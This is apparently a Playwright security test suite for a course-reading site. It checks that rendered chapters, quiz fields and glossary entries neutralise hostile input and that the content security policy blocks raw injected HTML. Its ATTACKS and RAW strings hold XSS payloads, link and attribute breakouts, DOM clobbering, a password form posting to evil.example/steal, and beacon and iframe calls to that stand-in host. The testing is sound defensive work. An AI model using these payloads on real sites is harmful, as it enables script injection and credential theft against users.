"""Chapters that attack their reader: cleaned they are text, and what slipped through would still do nothing."""

from __future__ import annotations

from collections.abc import AsyncIterator

import psycopg
import pytest
from playwright.async_api import Page, Request, expect

from . import shelf
from .conftest import Product

ATTACKS = """
# Attacks

<script>window.attacked = "script"</script>
<style>@import "https://evil.example/style.css"; body { display: none }</style>
<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>
<div style="position:fixed;inset:0;z-index:99999">overlay</div>
<img src=x onerror="window.attacked = 'img'"> <svg onload="window.attacked = 'svg'"></svg>
<iframe src="https://evil.example/frame"></iframe> <base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<a id="phrases" name="content">clobber</a> <h2 id="source">clobber</h2>

[one](javascript:window.attacked='link') [two](JaVaScRiPt:window.attacked='case')
[three](data:text/html,<script>1</script>)
[four](https://evil.example/phish) [five](//evil.example) [six](vbscript:x) <https://evil.example/auto>
[seven](chapter:x"onmouseover="window.attacked='attribute') [eight](cite:a"onclick="window.attacked='cite'#L1-L2)

![beacon](https://evil.example/beacon.png)

## <img src=x onerror="window.attacked='heading'"> content

```mermaid
%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(https://evil.example/theme) }"}}%%
flowchart LR
  a["<img src=x onerror=window.attacked='mermaid'>"]
  click a href "javascript:window.attacked='click'"
```

```mermaid
flowchart LR
  n0["a"]
  n0 --> n7
```

```html path=a.html lines=1-3
``` <script>window.attacked = "fence"</script>
</code></pre><script>window.attacked = "breakout"</script>
```

```"><script>window.attacked='info'</script>
x
```

> **Solution**
>
> <script>window.attacked = "solution"</script>

| a |
|---|
| <script>window.attacked = "cell"</script> |
"""

#: What no cleaning would leave, as if it had been left: the policy of the page is the last wall.
RAW = """
<h2 id="sec-raw">Raw</h2>
<script>window.attacked = "script"</script>
<img src="x" onerror="window.attacked = 'img'"><img src="https://evil.example/beacon.png">
<svg onload="window.attacked = 'svg'"></svg>
<a href="javascript:window.attacked = 'link'" class="bait">bait</a>
<script src="https://evil.example/x.js"></script><iframe src="https://evil.example/frame"></iframe>
<base href="https://evil.example/">
<form action="https://evil.example/steal" method="post"><button class="submit">Send</button></form>
<style>@import "https://evil.example/style.css";</style>
<link rel="stylesheet" href="https://evil.example/style.css"><object data="https://evil.example/object"></object>
"""


@pytest.fixture
async def page(page: Page, sign_in_url: str) -> AsyncIterator[Page]:
    """A signed-in reader whose browser asks no other host for anything."""
    await page.goto(sign_in_url)
    home = page.url.split("/courses")[0]
    abroad: list[str] = []

    def note(request: Request) -> None:
        # What the policy stops has never left the browser.
        if request.failure != "csp" and not request.url.startswith((home, "data:", "blob:")):
            abroad.append(f"{request.url}: {request.failure}")

    page.on("requestfinished", note)
    page.on("requestfailed", note)
    yield page
    assert abroad == []


async def nothing_happened(page: Page) -> None:
    await page.wait_for_load_state("networkidle")
    assert await page.evaluate("window.attacked") is None


async def test_a_hostile_chapter_is_text(page: Page, product: Product) -> None:
    hostile = {"slug": "attacks", **shelf.rendered("attacks", ATTACKS)}
    question = {
        "id": "q\"><script>window.attacked='quiz'</script>",
        "question": "<img src=x onerror=window.attacked='q'>",
        "options": ["<b>a</b>", "`<i>b</i>`"],
        "answer": 1,
        "explanation": "<script>window.attacked='why'</script>",
        "citations": [{"path": "\"><script>window.attacked='path'</script>", "start": 1, "end": 2}],
    }
    term = {"term": "x", "sentence": "<img src=x onerror=window.attacked='term'>", "chapter": "attacks"}
    address = shelf.put(product, "attacks", hostile | {"quiz": [question]}, glossary=[term])
    await page.goto(f"{address}/attacks")
    prose = page.locator(".prose")
    await expect(prose.first).to_be_visible()

    for tag in ("script", "style", "iframe", "img", "svg", "form", "input", "base", "meta", "object"):
        await expect(page.locator(f".prose :is({tag})")).to_have_count(0)
    # Nothing lies over the page: the menu can be opened, and what scripts look for by its id is what it was.
    await page.get_by_role("button", name="Account of").click()
    await expect(page.get_by_role("button", name="Sign out")).to_be_visible()
    assert await page.evaluate("document.getElementById('phrases').tagName") == "TEMPLATE"
    assert await page.evaluate("document.getElementById('source').tagName") == "DIALOG"
    assert await page.evaluate("[...document.querySelectorAll('.prose [id]')].every(e => e.id.startsWith('sec-'))")
    # Every link is one we made.
    links = await prose.locator("a").evaluate_all("links => links.map(link => link.getAttribute('href'))")
    assert [
        link for link in links if not link.startswith(("#sec-", "/courses/", "https://github.com/fondation/x/"))
    ] == []
    for link in await page.locator(".prose a:not([href^='#'])").all():
        await link.hover(force=True)
    # Diagrams that are no plain diagrams are shown as code.
    await expect(page.locator(".prose .diagram")).to_have_count(0)
    await expect(page.get_by_text("securityLevel")).to_be_visible()
    card = page.get_by_test_id("question")
    await card.get_by_role("radio").first.check()
    await card.get_by_role("button", name="Check").click()
    await expect(card.locator(".verdict")).to_contain_text("<script>")
    await nothing_happened(page)


async def test_what_slipped_through_the_cleaning_would_still_do_nothing(page: Page, product: Product) -> None:
    raw = {"slug": "raw", "markdown": "# Raw", "html": RAW}
    with pytest.raises(psycopg.errors.CheckViolation):
        shelf.put(product, "raw", raw)
    with shelf.unchecked(product):
        address = shelf.put(product, "raw", raw)
    answer = await page.goto(f"{address}/raw")
    assert answer is not None
    policy = answer.headers["content-security-policy"]
    script = next(part for part in policy.split("; ") if part.startswith("script-src"))
    assert "unsafe" not in script
    await expect(page.locator(".bait")).to_be_visible()
    await page.locator(".bait").click()
    # Not by a click of the mouse, which would wait for where the form leads.
    await page.evaluate("document.querySelector('.submit').click()")
    await nothing_happened(page)
    assert page.url.split("#")[0] == f"{address}/raw"


async def test_no_other_site_writes_a_readers_progress(page: Page, product: Product) -> None:
    address = shelf.put(product, "foreign", shelf.rendered("one", "## One\n"))
    for origin, status in (("https://evil.example", 403), (product.url, 204)):
        answer = await page.request.post(
            f"{address}/-/progress", data={"chapter": 1, "section": "sec-one"}, headers={"Origin": origin}
        )
        assert answer.status == status
    # A form of another site sends no JSON.
    answer = await page.request.post(f"{address}/-/progress", form={"chapter": "1"})
    assert answer.status == 422
